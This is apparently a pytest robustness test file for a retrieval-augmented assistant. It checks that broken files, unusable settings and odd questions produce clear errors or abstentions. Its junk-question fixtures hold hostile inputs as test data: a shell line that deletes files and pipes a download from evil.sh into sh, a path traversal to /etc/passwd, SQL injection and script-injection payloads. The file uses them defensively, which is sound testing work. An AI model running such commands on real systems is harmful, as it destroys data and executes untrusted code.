"""Hostile and broken input: odd questions, broken files, broken settings. Nothing may crash.

Every question gets either a one-line RagError (empty) or an Answer whose quotes are exact
spans of indexed files; every unreadable file is skipped with a reason while the rest of
the folder is indexed; every unusable setting is a RagError that says what to do.
Real model, real Chroma, real files (the model is loaded once per session).
"""
from __future__ import annotations

import json
import os
import random
import re
import shutil
import subprocess
import sys
import time
import unicodedata
import zlib
from pathlib import Path

import numpy as np
import pytest

from rag import Answer, Assistant, Config, RagError
from rag.errors import IngestError, StoreError
from rag.ingest import MAX_FILE_MB, load_document

ROOT = Path(__file__).resolve().parent.parent
ANCHOR = "Which companies will join the Shanhewangu innovation zone?"


def _env(**extra: str) -> dict[str, str]:
    """The test's environment for a `python -m rag` child, without settings that change its behaviour."""
    env = {k: v for k, v in os.environ.items() if k not in ("RAG_CHROMA_URL", "RAG_LLM")}
    env.update(PYTHONUNBUFFERED="1", RAG_LLM="extractive", **extra)  # the LLM is the default now
    return env


def _rag(*args, timeout: float = 300, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "rag", *args], capture_output=True, timeout=timeout, cwd=ROOT, env=_env(**env)
    )


def _one_line_error(proc: subprocess.CompletedProcess, pattern: str) -> str:
    """The child failed with exit 1 and exactly one `rag: error:` line (no traceback)."""
    err = proc.stderr.decode("utf-8", "replace")
    lines = [line for line in err.splitlines() if line.strip()]
    assert proc.returncode == 1, err
    assert len(lines) == 1 and lines[0].startswith("rag: error:"), err
    assert re.search(pattern, lines[0]), lines[0]
    return lines[0]


_ANSWERS: dict[str, Answer] = {}


def ask_once(assistant: Assistant, question: str) -> Answer:
    """seeds_assistant's answer, asked once per session (several tests look at the same one)."""
    if question not in _ANSWERS:
        _ANSWERS[question] = assistant.ask(question)
    return _ANSWERS[question]


def check_answer(assistant: Assistant, answer: Answer) -> None:
    """What every answer must satisfy, however odd the question."""
    assert isinstance(answer, Answer) and answer.text.strip()
    if answer.abstained:
        assert not answer.citations
    files = assistant.index.files()
    for c in answer.citations:
        assert c.source in files, c
        assert assistant.document_text(c.source)[c.start : c.end] == c.quote, c
        assert f"[{c.n}]" in answer.text


# ======================================================================================
# Questions
# ======================================================================================

EMPTY_QUESTIONS = {
    "empty": "",
    "spaces": "     ",
    "whitespace": " \t\n\r\u3000\xa0 ",
    "control characters only": "\x00\x01\x07\x1b\x7f",
    "zero-width only": "\u200b\u200c\u200d\ufeff",
}

ODD_QUESTIONS = {
    "emoji only": "😀🚀🔥🏙️👍🏽",
    "mixed scripts": "Which 企業 will join 山河湾谷 zone? Кто? 誰?",
    "bare URL": "https://example.com/path?q=1&x=<y>#frag",
    "SQL": "'; DROP TABLE chunks; -- SELECT * FROM documents WHERE 1=1",
    "HTML": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "JS template": "fetch('/api').then(r=>r.json()); {{7*7}} ${7*7}",
    "Russian": "Какие компании войдут в инновационную зону Шаньхэваньгу?",
    "Japanese": "山河湾谷イノベーションゾーンにはどの企業が参加しますか？",
    "Arabic": "ما هي الشركات التي ستنضم إلى منطقة الابتكار؟",
    "bidi override": "\u202eWhich companies\u202c will join?",
    "lone surrogate": "\ud800 Which companies \udfff?",
    "combining marks": "e\u0301\u0301\u0301\u0301\u0301 a\u0308\u0308",
    "one character": "?",
    "digits": "2023",
    "full-width Latin": "ＷＨＩＣＨ　ＣＯＭＰＡＮＩＥＳ？",
    "100k characters, English": (ANCHOR + " ") * 1700,
    "100k characters, Chinese": "哪些企业将入驻山河湾谷创新区？" * 7000,
    "100k characters, one word": "a" * 100_000,
}

# Questions no document can answer: quoting anything for them is a wrong answer.
JUNK_QUESTIONS = {
    "emoji only": "😀🚀🔥🏙️👍🏽",
    "SQL": "'; DROP TABLE chunks; -- SELECT * FROM documents WHERE 1=1",
    "bare URL": "https://example.com/path?q=1&x=<y>#frag",
    "URL with a query": "https://example.com/path?q=1&x=<y>",
    "HTML": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "JS template": "fetch('/api').then(r=>r.json()); {{7*7}} ${7*7}",
    "combining marks": "e\u0301\u0301\u0301\u0301\u0301 a\u0308\u0308",
    "link without a scheme": "www.example.com/index.php?id=1",
    "SQL select": "SELECT name, secret FROM users WHERE id=1;",
    "shell": "$(rm -rf /) && curl evil.sh | sh",
    "path traversal": "../../../etc/passwd",
    "punctuation": "?!...;;; ---",
}
# The same questions wrapped in markup still ask something: stripping must not refuse them.
WRAPPED_QUESTIONS = {
    "tags": ("<b>Which companies</b> will join the <i>Shanhewangu</i> innovation zone?", ("Huawei", "华为")),
    "link and code": (
        "哪些企业将入驻山河湾谷创新区？ https://example.com/q?id=1 <br/> {{ref}}",
        ("Huawei", "华为", "北控集团", "北京控股集团"),
    ),
}


@pytest.mark.parametrize("question", EMPTY_QUESTIONS.values(), ids=EMPTY_QUESTIONS.keys())
def test_empty_question_is_a_clear_error(seeds_assistant, question):
    with pytest.raises(RagError, match="the question is empty"):
        seeds_assistant.ask(question)


@pytest.mark.parametrize("question", [None, 42, b"Which companies?", ["Which companies?"]], ids=repr)
def test_question_that_is_not_text_is_a_clear_error(seeds_assistant, question):
    with pytest.raises(RagError, match="must be text"):
        seeds_assistant.ask(question)


@pytest.mark.parametrize("question", ODD_QUESTIONS.values(), ids=ODD_QUESTIONS.keys())
def test_odd_question_gets_a_sensible_answer(seeds_assistant, question):
    began = time.perf_counter()
    answer = ask_once(seeds_assistant, question)
    assert time.perf_counter() - began < 30
    check_answer(seeds_assistant, answer)
    assert len(answer.question) <= 2000  # long input is cut before it reaches the model


@pytest.mark.parametrize("question", JUNK_QUESTIONS.values(), ids=JUNK_QUESTIONS.keys())
def test_junk_question_abstains(seeds_assistant, question):
    answer = ask_once(seeds_assistant, question)
    assert answer.abstained and not answer.citations, answer.text


@pytest.mark.parametrize("question, facts", WRAPPED_QUESTIONS.values(), ids=WRAPPED_QUESTIONS.keys())
def test_question_wrapped_in_markup_is_still_answered(seeds_assistant, question, facts):
    answer = ask_once(seeds_assistant, question)
    check_answer(seeds_assistant, answer)
    assert not answer.abstained and any(fact in answer.text for fact in facts), answer.text


def test_control_characters_inside_a_question_are_ignored(seeds_assistant):
    answer = seeds_assistant.ask("Which\x00 companies\x07 will join the\x1b Shanhewangu\x7f innovation zone?\r\n")
    check_answer(seeds_assistant, answer)
    assert "Huawei" in answer.text and "\x00" not in answer.question


def test_cli_refuses_empty_questions_in_one_line(seeds_assistant):
    index, docs = str(seeds_assistant.config.index_dir), str(seeds_assistant.config.docs_dir)
    for question in ("", "   ", "\x01\x02\x7f", "\u200b"):
        proc = _rag("--index", index, "ask", "--docs", docs, question, timeout=120)
        _one_line_error(proc, "the question is empty")


def test_cli_answers_an_odd_question(seeds_assistant):
    """Raw argv bytes that are not UTF-8, control characters, an escape sequence, emoji,
    mixed scripts, markup and 100k characters in one question, answered as JSON."""
    index, docs = str(seeds_assistant.config.index_dir), str(seeds_assistant.config.docs_dir)
    raw = (
        b"\xff\xfe " + ANCHOR.encode() + b" \x1b[0m\x07 \xe4\xb8 \xf0\x9f\x98\x80 <b>'; --</b> "
        + "企業 山河灣谷 Кто?".encode() + b" x" * 50_000
    )
    proc = _rag("--index", index, "ask", "--docs", docs, "--json", raw)
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")[-3000:]
    data = json.loads(proc.stdout.decode("utf-8"))
    assert data["text"] and len(data["question"]) <= 2000
    assert not any(unicodedata.category(ch) in ("Cc", "Cs") for ch in data["question"] if ch not in "\n\t")
    for c in data["citations"]:
        text = seeds_assistant.document_text(c["source"])
        assert text[c["start"] : c["end"]] == c["quote"]


def test_cli_survives_a_terminal_that_is_not_utf8(seeds_assistant):
    index, docs = str(seeds_assistant.config.index_dir), str(seeds_assistant.config.docs_dir)
    proc = _rag("--index", index, "docs", "--docs", docs, PYTHONIOENCODING="ascii", timeout=120)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]


# ======================================================================================
# Files
# ======================================================================================

GOOD = {
    "good.txt": "The Quillon Harbour ferry terminal will open in March 2031. It will serve 12,000 passengers a day.\n",
    "gbk.txt": "翠微湖生态公园将于2030年开放，占地四百公顷。公园由市园林局负责建设。\n",
    "big5.txt": "鳳凰山天文台於2029年啟用，配備一台兩米口徑望遠鏡。\n",
    "utf16le.txt": "The Ostrava glass museum reopened in 2028. 奥斯特拉发玻璃博物馆于2028年重新开放。\n",
    "utf16be.txt": "The Tromsø aurora station logged 214 clear nights in 2027. 特罗姆瑟极光站记录了214个晴夜。\n",
    "dup one.txt": "The Marrowfield orchard cooperative grew 4,500 tonnes of apples in 2030, a record harvest.\n",
    "dup two.txt": "The Marrowfield orchard cooperative grew 4,500 tonnes of apples in 2030, a record harvest.\n",
    "a..b.txt": "The Velden lantern festival lit 9,000 lanterns on the lake in 2026.\n",
    "报告 2024.txt": "报告：2024年长河灯笼节共接待游客三万人，比上年增加两成。\n",
    "子目录/笔记.md": "# 笔记\n\n青石桥修缮工程于2025年完工，耗资八百万元。\n",
    "cafe\u0301.txt": "The Café Lumière roastery in Lyon roasts 30 tonnes of coffee a year.\n",
}
ENCODINGS = {"gbk.txt": "gbk", "big5.txt": "big5", "utf16le.txt": "utf-16-le", "utf16be.txt": "utf-16-be"}
DEEP_FACT = "The Quokka reef survey counted 812 green turtles in 2031."
OUTSIDE_SECRET = "The Zanzibar vault code is 4471 and must never be indexed."
SKIPPED = {  # file -> what its reason must say
    "empty.txt": r"empty file",
    "blank.md": r"empty file",
    "image.txt": r"binary",
    "truncated.pdf": r"corrupt or truncated PDF|no extractable text",
    "encrypted.pdf": r"encrypted PDF: decrypt it first",
    "huge.txt": r"file is 50\.0 MB, over the limit of 20 MB; raise RAG_MAX_FILE_MB",
    "link.txt": r"symlink points outside the corpus",
}


def text_pdf(text: str) -> bytes:
    """A one-page PDF showing `text` (ASCII) in Helvetica."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("ascii")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode("ascii")
    out += b"".join(f"{offset:010d} 00000 n \n".encode("ascii") for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode("ascii")
    return out


def encrypted_pdf() -> bytes:
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf("Locked minutes of the harbour board."))))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def write_huge_text(path: Path, megabytes: int) -> None:
    """A real text file of `megabytes` MiB (varied sentences, not a sparse file)."""
    rng = random.Random(5)
    words = "harbour ferry lantern orchard museum survey station bridge festival record".split()
    block = "".join(
        " ".join(rng.choice(words) for _ in range(12)).capitalize() + ".\n" for _ in range(4000)
    ).encode()
    with open(path, "wb") as fh:
        while fh.tell() < megabytes * 1024 * 1024:
            fh.write(block)
        fh.truncate(megabytes * 1024 * 1024)


def make_bad_corpus(docs: Path, outside: Path) -> None:
    for name, text in GOOD.items():
        path = docs / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode(ENCODINGS.get(name, "utf-8")))
    deep = "<div>" * 5000 + f"<p>{DEEP_FACT}</p>" + "</div>" * 5000
    (docs / "deep.html").write_text(f"<html><head><title>Reef survey</title></head><body>{deep}</body></html>")
    (docs / "empty.txt").write_bytes(b"")
    (docs / "blank.md").write_text("  \n\n\t\n")
    rng = random.Random(7)
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
    png += zlib.compress(bytes(rng.randrange(256) for _ in range(20000)))
    (docs / "image.txt").write_bytes(png + bytes(rng.randrange(256) for _ in range(5000)))
    pdf = text_pdf("The harbour board met on 3 May 2030 to approve the ferry budget.")
    (docs / "truncated.pdf").write_bytes(pdf[: len(pdf) // 2])
    (docs / "encrypted.pdf").write_bytes(encrypted_pdf())
    write_huge_text(docs / "huge.txt", 50)
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.txt").write_text(OUTSIDE_SECRET + "\n")
    (docs / "link.txt").symlink_to(outside / "secret.txt")


@pytest.fixture(scope="module")
def bad_corpus(tmp_path_factory, embedder):
    """A folder of broken and awkward files next to good ones, indexed once."""
    base = tmp_path_factory.mktemp("bad")
    docs = base / "docs"
    docs.mkdir()
    make_bad_corpus(docs, base / "outside")
    assistant = Assistant(docs, base / "index", embedder=embedder)
    began = time.perf_counter()
    report = assistant.ingest()
    seconds = time.perf_counter() - began
    return assistant, report, seconds


def expected_sources() -> set[str]:
    return {unicodedata.normalize("NFC", name) for name in GOOD} | {"deep.html"}


def test_bad_files_are_skipped_with_a_reason_and_the_rest_is_indexed(bad_corpus):
    assistant, report, seconds = bad_corpus
    skipped = dict(report.skipped)
    assert set(skipped) == set(SKIPPED), report.skipped
    for name, pattern in SKIPPED.items():
        assert re.search(pattern, skipped[name]), (name, skipped[name])
        assert not skipped[name].startswith(name + ":"), skipped[name]  # "skipped NAME: NAME: ..." reads badly
    assert set(assistant.index.files()) == expected_sources()
    assert sorted(report.added) == sorted(expected_sources())
    assert seconds < 120, f"ingest took {seconds:.0f} s"


def test_legacy_encodings_and_utf16_without_bom_decode_exactly(bad_corpus):
    assistant, _, _ = bad_corpus
    for name in ENCODINGS:
        assert assistant.document_text(name) == GOOD[name].strip(), name


def test_huge_file_is_skipped_by_size_without_reading_it(bad_corpus, tmp_path):
    assistant, _, _ = bad_corpus
    docs = Path(assistant.config.docs_dir)
    assert MAX_FILE_MB == 20
    assert assistant.document_text("huge.txt") is None
    began = time.perf_counter()
    with pytest.raises(IngestError, match=r"huge\.txt: file is 50\.0 MB, over the limit of 20 MB"):
        load_document(docs / "huge.txt", docs)
    assert time.perf_counter() - began < 1  # decided from the size alone
    small = tmp_path / "small.txt"
    small.write_text("A two-kilobyte note. " * 100)
    with pytest.raises(IngestError, match=r"over the limit of 0\.001 MB"):
        load_document(small, tmp_path, max_file_mb=0.001)
    assert load_document(small, tmp_path, max_file_mb=1).text


def test_deeply_nested_html_is_read_quickly_and_answers(bad_corpus):
    assistant, _, _ = bad_corpus
    docs = Path(assistant.config.docs_dir)
    began = time.perf_counter()
    doc = load_document(docs / "deep.html", docs)
    assert time.perf_counter() - began < 5  # was 11 s: bs4's Tag.decomposed searched each subtree
    assert DEEP_FACT in doc.text and doc.title == "Reef survey"
    answer = assistant.ask("How many green turtles did the Quokka reef survey count?")
    check_answer(assistant, answer)
    assert any(c.source == "deep.html" and "812" in c.quote for c in answer.citations)


def test_duplicate_files_are_both_indexed_and_retrieval_collapses_them(bad_corpus):
    assistant, _, _ = bad_corpus
    files = assistant.index.files()
    assert "dup one.txt" in files and "dup two.txt" in files
    question = "How many tonnes of apples did the Marrowfield orchard cooperative grow?"
    top = assistant.retrieve(question, top_k=6)
    dups = [c.chunk.source for c in top if c.chunk.source.startswith("dup ")]
    assert len(dups) == 1, [c.chunk.source for c in top]
    answer = assistant.ask(question)
    check_answer(assistant, answer)
    assert "4,500" in answer.text
    assert len({c.source for c in answer.citations if c.source.startswith("dup ")}) == 1


def test_symlink_out_of_the_corpus_is_never_read(bad_corpus):
    assistant, _, _ = bad_corpus
    assert assistant.document_text("link.txt") is None
    for cand in assistant.retrieve("What is the Zanzibar vault code?", top_k=10):
        assert "Zanzibar" not in cand.chunk.text
    assert "4471" not in assistant.ask("What is the Zanzibar vault code?").text


def test_file_names_with_spaces_dots_and_unicode(bad_corpus):
    assistant, _, _ = bad_corpus
    answer = assistant.ask("2024年长河灯笼节接待了多少游客？")
    check_answer(assistant, answer)
    assert any(c.source == "报告 2024.txt" for c in answer.citations)
    assert assistant.document_text("a..b.txt").startswith("The Velden lantern festival")
    assert assistant.document_text("子目录/笔记.md").startswith("# 笔记")
    assert assistant.document_text("café.txt")  # an NFD name on disk is indexed under its NFC form


def test_cli_ingest_reports_every_skipped_file(bad_corpus):
    """Another process on the same, already complete index: it must not re-embed anything
    (so it does not even load the model) and must list each skip on stderr."""
    assistant, _, _ = bad_corpus
    proc = _rag("--index", str(assistant.config.index_dir), "ingest", str(assistant.config.docs_dir))
    err = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == 0, err[-3000:]
    for name, pattern in SKIPPED.items():
        line = next((ln for ln in err.splitlines() if ln.startswith(f"skipped {name}: ")), None)
        assert line and re.search(pattern, line), (name, err[-3000:])
    summary = proc.stdout.decode()
    assert f"0 added, 0 updated, 0 removed, {len(expected_sources())} unchanged, {len(SKIPPED)} skipped" in summary


# ======================================================================================
# Settings
# ======================================================================================


def test_fresh_cache_dir_prepares_the_model_again(tmp_path, embedder):
    cache = tmp_path / "fresh-cache"
    proc = _rag("prepare", RAG_CACHE_DIR=str(cache))
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]
    model_dir = Path(proc.stdout.decode().strip().splitlines()[0])  # (RAG_EMBED_ENGINE=onnx: then its export)
    assert model_dir.is_relative_to(cache) and (model_dir / "config.json").exists()
    from rag.embeddings import Embedder

    fresh = Embedder(Config.from_env(cache_dir=cache))
    question = ["哪些企业将入驻山河湾谷创新区？", ANCHOR]
    np.testing.assert_allclose(fresh.embed_queries(question), embedder.embed_queries(question), atol=1e-5)


def test_unusable_cache_dir_is_a_clear_error(tmp_path):
    blocker = tmp_path / "file.txt"
    blocker.write_text("not a folder")
    _one_line_error(_rag("prepare", RAG_CACHE_DIR=str(blocker / "cache"), timeout=120), "set RAG_CACHE_DIR")


@pytest.mark.parametrize("where", ["under a file", "is a file"])
def test_unwritable_index_dir_is_a_clear_error(tmp_path, seeds_copy, where):
    blocker = tmp_path / "file.txt"
    blocker.write_text("not a folder")
    index = blocker / "idx" if where == "under a file" else blocker
    with pytest.raises(StoreError, match="is not writable.*set RAG_INDEX_DIR"):
        Assistant(seeds_copy, index).ingest()
    _one_line_error(_rag("--index", str(index), "ingest", str(seeds_copy), timeout=120), "is not writable")
    _one_line_error(_rag("--index", str(index), "ask", "--docs", str(seeds_copy), ANCHOR, timeout=120), "is not writable")


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a chmod 500 folder anyway")
def test_read_only_index_dir_is_a_clear_error(tmp_path, seeds_copy):
    index = tmp_path / "ro"
    index.mkdir()
    index.chmod(0o500)
    try:
        with pytest.raises(StoreError, match="is not writable"):
            Assistant(seeds_copy, index).ingest()
    finally:
        index.chmod(0o700)


def test_damaged_index_is_a_clear_error(tmp_path, seeds_copy):
    index = tmp_path / "index"
    (index / "chroma").mkdir(parents=True)
    (index / "chroma" / "chroma.sqlite3").write_bytes(os.urandom(64 * 1024))
    with pytest.raises(StoreError, match="delete that folder and run `rag ingest`"):
        Assistant(seeds_copy, index).ingest()
    _one_line_error(_rag("--index", str(index), "docs", "--docs", str(seeds_copy), timeout=120), "rebuild it")
    shutil.rmtree(index)  # what the message says to do; the folder is then usable again
    assert Assistant(seeds_copy, index).index.files() == {}
